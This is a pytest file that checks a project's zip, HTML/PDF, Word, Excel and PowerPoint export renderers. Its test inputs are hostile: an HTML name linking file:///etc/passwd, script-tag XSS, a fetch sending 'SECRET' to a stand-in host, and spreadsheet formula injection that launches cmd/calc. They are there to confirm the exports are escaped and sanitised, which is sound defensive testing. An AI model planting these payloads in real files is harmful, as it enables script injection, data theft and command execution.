"""Every artifact opened with its own library: content and structure, not only a file."""

from __future__ import annotations

import hashlib
import io
import json
import zipfile
from html.parser import HTMLParser

import docx
import openpyxl
import pytest
from pptx import Presentation

from jeex.exports.docx_export import MAX_TABLE_COLUMNS, render_docx
from jeex.exports.html import ENVIRONMENT, render_document_html, render_html
from jeex.exports.plan_data import epic_rows
from jeex.exports.pptx_export import render_pptx
from jeex.exports.xlsx_export import EPIC_HEADERS, render_xlsx
from jeex.exports.zip_export import MANIFEST_NAME, render_zip
from support.exports import (
    MALFORMED_TABLES,
    Doc,
    hostile_markdown,
    huge_table,
    make_bundle,
    standard_docs,
)

HOSTILE_NAME = "</title><link rel=attachment href=file:///etc/passwd><script>x()</script>"


def test_zip_holds_the_tree_readme_and_a_manifest() -> None:
    data, made_of = render_zip(make_bundle())
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        names = archive.namelist()
        assert names[0] == "family-lists/README.md"
        assert set(names) == {
            "family-lists/README.md",
            "family-lists/manifest.json",
            "family-lists/docs/about.md",
            "family-lists/docs/specs.md",
            "family-lists/docs/architecture.md",
            "family-lists/docs/plans/overview.md",
            "family-lists/docs/plans/01-epic-1.md",
            "family-lists/docs/plans/02-epic-2.md",
            "family-lists/docs/plans/03-epic-3.md",
        }
        manifest = json.loads(archive.read(f"family-lists/{MANIFEST_NAME}"))
        assert manifest == made_of
        assert manifest["project"]["name"] == "Family Lists"
        for record in manifest["files"]:
            body = archive.read(f"family-lists/{record['path']}")
            assert hashlib.sha256(body).hexdigest() == record["sha256"]
            assert record["bytes"] == len(body)
        about = next(r for r in manifest["files"] if r["path"] == "docs/about.md")
        assert about["document_type"] == "about"
        assert about["version"] == 1
        assert about["model"] == "scripted-model"
        assert about["template_version"] == "1.0"
        assert about["generated_at"].endswith("Z")
        assert archive.read("family-lists/docs/about.md").startswith(b"---\ntitle:")


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))


def test_pdf_html_is_autoescaped_and_sanitised() -> None:
    assert ENVIRONMENT.autoescape is not False
    docs = [Doc("about", hostile_markdown(9), title=HOSTILE_NAME)]
    html = render_html(make_bundle(docs, name=HOSTILE_NAME))
    parser = _Elements()
    parser.feed(html)
    tags = {tag for tag, _ in parser.found}
    assert not tags & {"script", "link", "img", "iframe", "object", "style", "svg", "image"}
    for _, attrs in parser.found:
        for name, value in attrs:
            assert not name.startswith("on")
            if name in {"href", "src"}:
                assert value is not None
                assert value.startswith(("#doc-", "http://", "https://", "mailto:")), value
    assert "&lt;/title&gt;&lt;link rel=attachment" in html
    assert "[image: exfil]" in html


def test_one_documents_pdf_html_is_autoescaped_and_sanitised() -> None:
    """A petition's PDF page: its title, case reference and text are the user's and the
    model's, so they pass through autoescape and the allow-list like the package's."""
    html = render_document_html(
        title=HOSTILE_NAME,
        content=hostile_markdown(9),
        language="en",
        case_ref="<script>alert(1)</script>",
    )
    parser = _Elements()
    parser.feed(html)
    assert not {tag for tag, _ in parser.found} & {"script", "link", "img", "iframe", "style"}
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "&lt;/title&gt;&lt;link rel=attachment" in html


def test_docx_has_real_headings_lists_tables_and_code() -> None:
    document = docx.Document(io.BytesIO(render_docx(make_bundle())))
    styles = [(p.style.name if p.style else "", p.text) for p in document.paragraphs]
    headings = [text for style, text in styles if style == "Heading 1"]
    assert "About: Family Lists" in headings
    assert "Infrastructure and project setup" in headings
    assert ("Heading 2", "Problem") in styles
    assert ("List Number", "Type everything.") in styles
    assert any(s == "List Bullet" and t == "Offline editing with sync" for s, t in styles)
    assert ("Title", "Family Lists") in styles
    code = [p for p in document.paragraphs if p.text.startswith("graph TD")]
    assert code
    assert code[0].runs[0].font.name == "DejaVu Sans Mono"
    table = document.tables[0]
    assert [c.text for c in table.rows[0].cells] == ["Area", "Rule", "Owner"]
    assert [c.text for c in table.rows[1].cells] == ["Tests", "90 % coverage", "QA"]
    bold = [r for r in document.paragraphs if r.text.startswith("One list")]
    assert bold


def test_docx_keeps_hostile_text_literal_and_links_nothing() -> None:
    docs = [Doc("about", hostile_markdown(9), title=HOSTILE_NAME)]
    data = render_docx(make_bundle(docs, name=HOSTILE_NAME))
    document = docx.Document(io.BytesIO(data))
    text = "\n".join(p.text for p in document.paragraphs)
    assert HOSTILE_NAME in text
    assert '<script>fetch("http://127.0.0.1:9/script?q=SECRET")</script>' in text
    rels = document.part.rels.values()
    assert not [r for r in rels if r.is_external]
    assert not document.inline_shapes


def test_xlsx_has_epics_and_a_task_sheet_per_epic() -> None:
    workbook = openpyxl.load_workbook(io.BytesIO(render_xlsx(make_bundle(standard_docs(3)))))
    assert workbook.sheetnames == ["Epics", "Epic 01", "Epic 02", "Epic 03"]
    epics = workbook["Epics"]
    assert tuple(c.value for c in epics[1]) == EPIC_HEADERS
    assert [c.value for c in epics[3]] == [2, "Shared lists", "Deliver shared lists", "1", 4, 3]
    assert epics.auto_filter.ref == "A1:F4"
    assert epics.freeze_panes == "A2"
    assert epics["A1"].font.b
    tasks = workbook["Epic 02"]
    assert [c.value for c in tasks[1]] == ["#", "Task", "Done"]
    assert [tasks.cell(row=r, column=2).value for r in range(2, 5)] == [
        "Task 2.1",
        "Task 2.2",
        "Task 2.3",
    ]
    assert tasks.auto_filter.ref == "A1:C4"


def test_xlsx_never_writes_a_formula() -> None:
    hostile = Doc("plan_epic", "# E\n\n## Tasks\n\n1. =cmd|' /C calc'!A0\n2. @SUM(1)\n",
                  epic_number=1, title="=HYPERLINK(\"http://127.0.0.1:9\")",
                  metadata={"epic": {"number": 1, "title": "=1+1", "goal": "+2",
                                     "depends_on": [], "estimate_days": None}})  # fmt: skip
    data = render_xlsx(make_bundle([Doc("about", "# A\n", title="A"), hostile]))
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    cells = [c for sheet in workbook for row in sheet.iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"]
    assert workbook["Epics"]["B2"].value == "=1+1"
    assert workbook["Epic 01"]["B2"].value == "=cmd|' /C calc'!A0"
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in archive.read(n) for n in sheets)


def test_xlsx_without_a_plan_is_an_empty_epics_sheet() -> None:
    workbook = openpyxl.load_workbook(io.BytesIO(render_xlsx(make_bundle(standard_docs()[:3]))))
    assert workbook.sheetnames == ["Epics"]
    assert workbook["Epics"].max_row == 1


def test_pptx_summary_deck() -> None:
    deck = Presentation(io.BytesIO(render_pptx(make_bundle(standard_docs(3)))))
    slides = list(deck.slides)
    titles = [s.shapes.title.text for s in slides if s.shapes.title is not None]
    assert titles == ["Family Lists", "Problem", "Audience", "Solution", "Architecture", "Plan"]

    def body(index: int) -> str:
        return "\n".join(
            shape.text_frame.text
            for shape in slides[index].shapes
            if shape.has_text_frame and shape != slides[index].shapes.title
        )

    assert body(1).splitlines()[0] == "Families forget groceries."
    assert "busy parents" in body(2)
    assert "One list that everyone edits live." in body(3)
    assert "A FastAPI service with PostgreSQL." in body(4)
    assert "2. Shared lists (4 d)" in body(5)
    assert "Estimated total: 12 days" in body(5)


def test_pptx_says_what_is_missing() -> None:
    deck = Presentation(io.BytesIO(render_pptx(make_bundle([Doc("specs", "# S\n", title="S")]))))
    texts = [s.placeholders[1].text_frame.text for s in list(deck.slides)[1:]]
    assert texts == ["(not written yet)", "busy parents", *["(not written yet)"] * 3]


@pytest.mark.parametrize("content", [huge_table(), MALFORMED_TABLES], ids=["huge", "malformed"])
def test_huge_and_malformed_tables_render_everywhere(content: str) -> None:
    docs = [*standard_docs(1), Doc("plan_epic", content, epic_number=2, title="Tables")]
    bundle = make_bundle(docs)
    assert render_zip(bundle)[0]
    document = docx.Document(io.BytesIO(render_docx(bundle)))
    assert all(len(t.columns) <= MAX_TABLE_COLUMNS for t in document.tables)
    assert openpyxl.load_workbook(io.BytesIO(render_xlsx(bundle)))
    assert Presentation(io.BytesIO(render_pptx(bundle)))
    assert "<table>" in render_html(bundle)


def test_epic_rows_fall_back_to_the_overview_list() -> None:
    docs = standard_docs(2)
    overview = next(d for d in docs if d.document_type == "plan_overview")
    overview.metadata["epics"].append(
        {"number": 3, "title": "Later", "goal": "g", "depends_on": [1, True, "x"],
         "estimate_days": "soon"}
    )  # fmt: skip
    rows = epic_rows(make_bundle(docs))
    assert [r.number for r in rows] == [1, 2, 3]
    assert rows[2].title == "Later"
    assert rows[2].depends_on == [1]
    assert rows[2].estimate_days is None
    assert rows[2].tasks == []


def test_tasks_written_as_prose_are_one_per_paragraph() -> None:
    prose = Doc("plan_epic", "# E\n\n## Tasks\n\nSet up CI.\n\nWrite the schema.\n",
                epic_number=1, title="E")  # fmt: skip
    rows = epic_rows(make_bundle([Doc("about", "# A\n", title="A"), prose]))
    assert rows[0].tasks == ["Set up CI.", "Write the schema."]
